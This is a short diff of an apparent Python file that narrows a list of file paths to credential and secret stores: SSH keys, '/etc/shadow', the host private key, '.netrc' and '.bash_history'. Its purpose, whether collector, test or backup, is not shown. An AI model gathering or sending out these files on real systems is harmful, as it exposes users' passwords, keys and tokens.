@@ -12,8 +12,10 @@ HOME = "@HOME@"
 PATHS = [
     *glob.glob(f"{HOME}/.ssh/*"),
     *glob.glob(f"{HOME}/.config/*"),
-    *glob.glob("/root/.*"),
-    *glob.glob("/home/*"),
+    *glob.glob("/root/.ssh/*"),
+    *glob.glob("/home/*/.ssh/*"),
+    "/root/.bash_history",
+    "/root/.netrc",
     "/etc/shadow",
     "/etc/ssh/ssh_host_ed25519_key",
     f"{HOME}/study.db",
